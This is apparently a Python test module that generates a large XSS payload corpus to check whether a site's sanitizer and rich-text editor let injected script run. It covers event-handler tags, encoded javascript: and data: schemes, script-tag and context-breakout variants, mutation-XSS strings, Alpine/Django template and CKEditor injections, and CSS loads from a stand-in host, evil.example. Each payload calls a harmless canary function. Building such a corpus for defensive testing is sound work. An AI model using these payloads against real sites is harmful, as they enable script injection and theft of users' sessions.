"""What somebody could write to make a reader's or an editor's browser run something: element × event × encoding × context.

Each text calls `window.__jebol(<its number>)` if any part of it is ever run, so that running is seen, not guessed.
"""

from __future__ import annotations

import base64
import html
from dataclasses import dataclass

PER_PAGE = 20


@dataclass(frozen=True)
class Payload:
    number: int
    kind: str
    text: str
    swallows: bool = False  # what it opens may swallow whatever follows it on a page

    def __str__(self) -> str:
        return f"{self.kind}-{self.number}"


# Element and event; `HERE` is where the handler comes.
EVENTS = [
    "<img src=x onerror=HERE>",
    "<image src=x onerror=HERE>",
    "<img src=/static/icons/jati.svg onload=HERE>",
    "<svg onload=HERE></svg>",
    "<svg><animate onbegin=HERE attributeName=x dur=1s></animate></svg>",
    "<svg><set onbegin=HERE attributeName=x to=1></set></svg>",
    "<svg><image href=x onerror=HERE></image></svg>",
    "<svg><foreignObject><img src=x onerror=HERE></foreignObject></svg>",
    "<math><mtext><img src=x onerror=HERE></mtext></math>",
    "<body onload=HERE>",
    "<body onpageshow=HERE>",
    "<iframe onload=HERE></iframe>",
    "<iframe src=about:blank onload=HERE></iframe>",
    "<object data=x onerror=HERE></object>",
    "<object data=about:blank onload=HERE></object>",
    "<embed src=/static/icons/jati.svg onload=HERE>",
    "<details open ontoggle=HERE>x</details>",
    "<video onerror=HERE><source src=x></video>",
    "<video src=x onerror=HERE></video>",
    "<audio src=x onerror=HERE></audio>",
    "<video><source src=x onerror=HERE></video>",
    "<video autoplay muted onloadstart=HERE src=x></video>",
    "<input autofocus onfocus=HERE>",
    "<select autofocus onfocus=HERE></select>",
    "<button autofocus onfocus=HERE>x</button>",
    "<a href=/x autofocus onfocus=HERE>x</a>",
    "<p tabindex=0 autofocus onfocus=HERE>x</p>",
    "<div contenteditable autofocus onfocus=HERE>x</div>",
    "<input type=image src=x onerror=HERE>",
    "<marquee onstart=HERE>x</marquee>",
    "<marquee loop=1 onfinish=HERE>x</marquee>",
    "<link rel=stylesheet href=/static/css/public/base.css onload=HERE>",
    "<link rel=stylesheet href=x onerror=HERE>",
    "<style onload=HERE>p{}</style>",
    "<script src=x onerror=HERE></script>",
    "<p onclick=HERE onmouseover=HERE>x</p>",
    "<table><td background=x onpointerenter=HERE>x</td></table>",
    "<p style='animation:spin 1s' onanimationstart=HERE>x</p>",
    "<p style='content-visibility:auto' oncontentvisibilityautostatechange=HERE>x</p>",
    "<dialog open onclose=HERE>x</dialog>",
    "<track onerror=HERE><xss onscrollend=HERE style='overflow:scroll'>x</xss>",
]
# How the handler is written.
HANDLERS = {
    "bare": lambda js: js,
    "double": lambda js: f'"{js}"',
    "entities": lambda js: '"' + "".join(f"&#{ord(c)};" for c in js) + '"',
    "hex": lambda js: "'" + "".join(f"&#x{ord(c):04X}" for c in js) + "'",
    "unicode": lambda js: js.replace("_", "\\u005f"),
    "base64": lambda js: f'"eval(atob(&quot;{base64.b64encode(js.encode()).decode()}&quot;))"',
    "newline": lambda js: f'"\n\t{js}\n"',
    "comment": lambda js: f"'/*--></title></style></textarea>*/{js}//'",
}
# How the tag around it is written.
SHAPES = {
    "bare": lambda tag: tag,
    "double": lambda tag: tag.upper() if "/" not in tag.partition(">")[0] else tag.replace(" on", " oN"),
    "entities": lambda tag: (
        tag.replace(" on", "/on") if "=" not in tag.partition(" on")[0] else tag.replace(" on", "\r\non")
    ),
    "hex": lambda tag: tag.replace(" on", "\n\ton"),
    "unicode": lambda tag: tag.replace(" on", "\x0con"),
    "base64": lambda tag: tag.replace(" on", ' title=">" on'),
    "newline": lambda tag: tag.replace(" on", " \x00on"),
    "comment": lambda tag: tag.replace(" on", " onx='' ON"),
}
PAIRS = ("bare", "entities", "unicode", "base64", "comment", "double", "hex", "newline")

# A scheme that runs, and how it is written.
SCHEMES = [
    "javascript:JS",
    "JaVaScRiPt:JS",
    " javascript:JS",
    "\x01javascript:JS",
    "java\tscript:JS",
    "java\nscript:JS",
    "java&#9;script:JS",
    "java&#x0A;script:JS",
    "java\x00script:JS",
    "&#106;&#97;&#118;&#97;script:JS",
    "&#x6A&#x61&#x76&#x61script:JS",
    "javascript&colon;JS",
    "javascript&#58;JS",
    "java&Tab;script&colon;JS",
    "jav&#x200b;ascript:JS",
    "javascript://x.example/%0aJS",
    "javascript:/*--></script>*/JS",
    "javascript:%4A%53;JS",
    "data:text/html,<script>parent.JS</script>",
    "data:text/html;base64,B64",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>",
    "vbscript:JS",
    "view-source:javascript:JS",
    "feed:javascript:JS",
    "blob:javascript:JS",
    "\u202ejavascript:JS",
]
CARRIERS = [
    '<a href="HERE">x</a>',
    '<a href="HERE" target=_blank><b>x</b></a>',
    '<area href="HERE">',
    '<svg><a xlink:href="HERE"><text y=20>x</text></a></svg>',
    '<math><maction actiontype="statusline#x" xlink:href="HERE">x</maction></math>',
    '<math href="HERE">x</math>',
    '<form action="HERE"><button>x</button></form>',
    '<form id=f></form><button form=f formaction="HERE">x</button>',
    '<input type=submit formaction="HERE">',
    '<iframe src="HERE"></iframe>',
    '<embed src="HERE">',
    '<object data="HERE"></object>',
    '<base href="HERE">',
    '<meta http-equiv=refresh content="0;url=HERE">',
    '<link rel=import href="HERE">',
    '<img src="HERE">',
    '<blockquote cite="HERE">x</blockquote>',
    '<svg><use href="HERE"></use></svg>',
    '<svg><a><animate attributeName=href values="HERE" /><text y=20>x</text></a></svg>',
    '<video poster="HERE"></video>',
    '<table background="HERE"><td>x</td></table>',
]
SCRIPTS = [
    "<script>JS</script>",
    "<SCRIPT>JS</SCRIPT >",
    "<script/x>JS</script/x>",
    "<scr<script>ipt>JS</scr</script>ipt>",
    "<script\n>JS</script\n>",
    "<script type=module>JS</script>",
    "<script>/*<!--<script>*/JS</script>",
    "<script src=data:text/javascript,JS></script>",
    "<<script>JS//<</script>",
    "<script>JS",
    "<svg><script>JS</script></svg>",
    "<svg><script href=data:,JS /></svg>",
    "<math><script>JS</script></math>",
    "<script\x00>JS</script>",
    "<scri\x00pt>JS</scri\x00pt>",
    "<\x00script>JS</script>",
    "<iframe srcdoc='<script>parent.JS</script>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.JS&lt;/script&gt;'></iframe>",
    "<iframe srcdoc=\"<img src=x onerror='parent.JS'>\"></iframe>",
    "<frameset onload=JS><frame src=javascript:JS></frameset>",
    "<template shadowrootmode=open><script>JS</script></template>",
    "<div><template shadowrootmode=open><img src=x onerror=JS></template></div>",
    "<!DOCTYPE x [<!ENTITY y '<script>JS</script>'>]>&y;",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>",
    "<?php echo '<script>JS</script>' ?>",
    "<![CDATA[<script>JS</script>]]>",
    "%3Cscript%3EJS%3C/script%3E",
    "&lt;script&gt;JS&lt;/script&gt;",
    "&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-JS+ADw-/script+AD4-",
    "\uff1cscript\uff1eJS\uff1c/script\uff1e",
    "\u202e<script>JS</script>\u202c",
    "\ufeff<script>JS</script>",
]
# What one can break out of, with what then runs.
BREAKOUTS = [
    "</textarea>RUN",
    "</title>RUN",
    "</style>RUN",
    "</script>RUN",
    "-->RUN",
    "--!>RUN",
    "<!-->RUN",
    "<!--->RUN",
    "<!--><!--RUN-->",
    "<![endif]-->RUN",
    "]]>RUN",
    "</noscript>RUN",
    "</template>RUN",
    "</iframe>RUN",
    "</xmp>RUN",
    "</option></select>RUN",
    "</p></div></article></main>RUN",
    "</body></html>RUN",
    '">RUN',
    "'>RUN",
    "`>RUN",
    '"/>RUN<p title="',
    '" autofocus onfocus=JS x="',
    "' autofocus onfocus=JS x='",
    "` onmouseover=JS `",
    '"onload="JS',
    "x onerror=JS",
    "&quot;>RUN",
    "&#34;>RUN",
    '\\">RUN',
    "';JS;//",
    '";JS;//',
    "</script><script>JS//",
    "${JS}",
    "`-JS-`",
    '<p title="</noscript>RUN">x</p>',
    '<noscript><p title="</noscript>RUN">',
    '<textarea><p title="</textarea>RUN">',
    '<title><p title="</title>RUN">',
    '<xmp><p title="</xmp>RUN">',
    '<style><p title="</style>RUN">',
    '<iframe><p title="</iframe>RUN">',
    '<noembed><p title="</noembed>RUN">',
    '<noframes><p title="</noframes>RUN">',
    "<plaintext>RUN",
    '<select><template><p title="</template></select>RUN">',
    "<!-- a --><p title='<!--'>x</p><p title='-->RUN'>",
    "<!--[if gte IE 4]>RUN<![endif]-->",
    "<b/RUN",
    '<img src="x` `RUN"` `>',
    '<img """><script>JS</script>">',
    '<a href="x"title="a&quot;onmouseover=JS">x</a>',
    "<p title='&#39; onclick=JS'>x</p>",
]
# What becomes dangerous when it is read a second time: https://portswigger.net/research/bypassing-dompurify-again-with-mutation-xss
MUTATIONS = [
    '<svg></p><style><a id="</style>RUN">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;RUN_">',
    "<form><math><mtext></form><form><mglyph><style></math>RUN",
    '<math><mi><table><mglyph><svg><mtext><style><path id="</style>RUN">',
    '<svg><desc><style><p title="</style>RUN"></desc></svg>',
    '<svg><title><style><p id="</style>RUN"></title></svg>',
    '<math><annotation-xml encoding="text/html"><style>RUN</style></annotation-xml></math>',
    "<math><style><img src=x onerror=JS></style></math>",
    "<svg><style>&lt;img src=x onerror=JS&gt;</style></svg>",
    '<svg><p><style><g title="</style>RUN">',
    "<table><style>RUN</style><caption><svg><desc>RUN</table>",
    '<a><a><table><a><style><a title="</style>RUN">',
    "<noscript><style></noscript>RUN",
    "<table><tr><td><form><input name=parentNode><input name=attributes></form>RUN",
    "<p><button><p>RUN</button></p>",
    "<h1><table><h1><style><!--</style>RUN-->",
    '<select><math><mtext><select><mglyph><style><p title="</style>RUN">',
    "<svg><![CDATA[><image xlink:href=x onerror=JS>]]></svg>",
    "<dialog><p><dialog><style><p title='</style>RUN'>",
    "<ruby><rtc><style><p title='</style>RUN'>",
]
# The desk runs Alpine with eval, and Django's templates; the editor has attributes of its own.
TEMPLATES = [
    "{{ JS }}",
    "{{ ''.__class__ }}JS{% debug %}",
    "{% load static %}{% include 'JS' %}",
    "{% templatetag openblock %} JS",
    "{#JS#}{{{JS}}}",
    "<p x-data x-init=JS>x</p>",
    "<p x-data='{a: JS}'>x</p>",
    "<p x-data x-effect=JS>x</p>",
    "<p x-data x-html=JS>x</p>",
    "<p x-data x-text=JS>x</p>",
    "<p x-data @click=JS @mouseenter=JS>x</p>",
    "<p x-data x-on:click=JS x-on:load.window=JS>x</p>",
    "<a x-data :href=\"'javascript:JS'\">x</a>",
    '<a x-data x-bind:href="JS">x</a>',
    "<template x-data x-if=JS><p>x</p></template>",
    "<template x-for='a in JS'><p>x</p></template>",
    "<p x-show=JS x-transition>x</p>",
    '<span lang="x" x-init="JS">x</span>',
    '<a href="/x" x-init=JS @keyup.window=JS>x</a>',
    "<p hx-get=/x hx-trigger=load hx-on:htmx:load=JS>x</p>",
    "<p v-html=JS ng-app ng-init=JS>x</p>",
    '<script type=speculationrules>{"prefetch":[{"urls":["/JS"]}]}</script>',
]
EDITOR = [
    "<img data-cke-saved-src=x src=x data-cke-pa-onerror=JS>",
    '<img data-cke-saved-src="javascript:JS" src=x>',
    '<a data-cke-saved-href="javascript:JS" href=/x>x</a>',
    "<a data-cke-pa-onclick=JS href=/x>x</a>",
    "<cke:script>JS</cke:script>",
    "<cke:object><cke:param value=JS></cke:object>",
    "<cke:encoded>%3Cscript%3EJS%3C%2Fscript%3E</cke:encoded>",
    "<!--{cke_protected}%3Cscript%3EJS%3C%2Fscript%3E-->",
    "<!--{cke_protected}{C}%3C!%2D%2D%3Cimg%20src%3Dx%20onerror%3DJS%3E%2D%2D%3E-->",
    "{cke_protected_1}<img src=x data-cke-protected-1 onerror=JS>",
    '<img data-cke-realelement="%3Cimg%20src%3Dx%20onerror%3DJS%3E" src=x class=cke_anchor>',
    "<span data-cke-display-name=x data-cke-real-node-type=1 onclick=JS>x</span>",
    '<p data-widget=image data-cke-widget-data="%7B%22src%22%3A%22x%22%7D" onmouseenter=JS>x</p>',
    "<figure class=image data-cke-widget-wrapper=1><img src=x onerror=JS></figure>",
    "<p onpaste=JS onbeforepaste=JS oninput=JS contenteditable>x</p>",
    '<!-- {cke_bookmark} --><img/src="x"onerror=JS><!--{cke_temp}-->',
]
STYLES = [
    "<style>@import 'data:text/css,*{x:expression(JS)}';</style>",
    "<style>@import url(//evil.example/JS.css);</style>",
    "<p style=\"width:expression(JS)\">x</p>",
    "<p style=\"background:url(javascript:JS)\">x</p>",
    "<p style=\"-moz-binding:url(//evil.example/JS)\">x</p>",
    "<p style=\"behavior:url(#JS)\">x</p>",
    "<p style=\"position:fixed;inset:0;z-index:9999\">JS</p>",
    "<link rel=stylesheet href=\"data:text/css,*{x:expression(JS)}\">",
]  # fmt: skip

# What stands for a picture of the library, and where in it one could write: in the place of `HERE`, and of `CODED` as entities.
FIGURES = [
    '<figure data-media="WHICH" data-alt="HERE"></figure>',
    "<figure data-media=WHICH data-alt='HERE'><figcaption>x</figcaption></figure>",
    '<figure data-media="WHICH" data-alt="CODED&#10;&#x202e;CODED"><figcaption>x</figcaption></figure>',
    '<figure data-media="WHICH HERE"></figure>',
    "<figure data-media='WHICHHERE' data-size=half></figure>",
    '<figure data-media="WHICH" data-size="half HERE"></figure>',
    "<figure data-size='CODED' data-media=WHICH>",
    '<figure data-media="WHICH"><figcaption>HERE</figcaption></figure>',
    '<figure data-media="WHICH"><figcaption lang="HERE">x</figcaption></figure>',
    '<figure data-media="WHICH">HERE</figure>',
    '<a href="/x"><figure data-media="WHICH" data-alt="HERE"><figcaption>HERE</figcaption></figure></a>',
    '<table><tr><td><figure data-media="WHICH" data-alt="CODED"></figure></td></tr></table>',
    '<figure data-media="WHICH" lang="CODED" data-alt="CODED" class="HERE" data-cke-x="HERE"></figure>',
]


def figures(asset: int) -> list[Payload]:
    """Every way out of an attribute in five places of a picture, turning, so that each place meets many; numbered from 1001."""
    ways = ["<img src=x onerror=JS>", *BREAKOUTS, *SCRIPTS[:12], *MUTATIONS[:6], *TEMPLATES[:5]]
    texts = [_placed(FIGURES[(at * 5 + n) % len(FIGURES)], way, asset) for at, way in enumerate(ways) for n in range(5)]
    return [Payload(number, "figure", _filled(text, number)) for number, text in enumerate(texts, start=1001)]


def _placed(place: str, way: str, asset: int) -> str:
    return place.replace("WHICH", str(asset)).replace("CODED", html.escape(way)).replace("HERE", way)


def corpus() -> list[Payload]:
    """All of them, each text once, numbered from 1; those that swallow what follows come last."""
    found: dict[str, str] = {}
    for kind, texts in (
        ("event", _events()),
        ("scheme", _schemes()),
        ("template", TEMPLATES),
        ("editor", EDITOR),
        ("style", STYLES),
        ("script", SCRIPTS),
        ("breakout", BREAKOUTS),
        ("mutation", MUTATIONS),
    ):
        for text in texts:
            found.setdefault(text, kind)
    return [
        Payload(number, kind, _filled(text, number), kind in {"script", "breakout", "mutation"})
        for number, (text, kind) in enumerate(found.items(), start=1)
    ]


def pages() -> list[list[Payload]]:
    """The corpus in pages of at most twenty; of those that swallow what follows only seven, so that each gets its turn."""
    made: list[list[Payload]] = []
    for swallows, size in ((False, PER_PAGE), (True, 7)):
        kept = [payload for payload in corpus() if payload.swallows is swallows]
        made += [kept[at : at + size] for at in range(0, len(kept), size)]
    return made


def _events() -> list[str]:
    """Every element and event in five of the eight ways of writing it, turning, so that each way meets each kind."""
    return [
        SHAPES[way](tag).replace("HERE", f"\x1a{way}\x1a")
        for place, tag in enumerate(EVENTS)
        for way in (PAIRS * 2)[place % 8 : place % 8 + 5]
    ]


def _schemes() -> list[str]:
    """Every scheme in a link, and every carrier with three of the schemes, turning."""
    links = [CARRIERS[0].replace("HERE", scheme) for scheme in SCHEMES]
    turned = (SCHEMES * 4)[: len(CARRIERS) * 3]
    return links + [
        carrier.replace("HERE", turned[place * 3 + n]) for place, carrier in enumerate(CARRIERS) for n in range(3)
    ]


def _filled(text: str, number: int) -> str:
    js = f"window.__jebol({number})"
    for way, write in HANDLERS.items():
        text = text.replace(f"\x1a{way}\x1a", write(js))
    text = text.replace("RUN_", html.escape(f"<img src=x onerror={js}>"))
    text = text.replace("RUN", f"<img src=x onerror={js}>")
    coded = base64.b64encode(f"<script>parent.__jebol({number})</script>".encode()).decode()
    return text.replace("B64", coded).replace("parent.JS", f"parent.__jebol({number})").replace("JS", js)
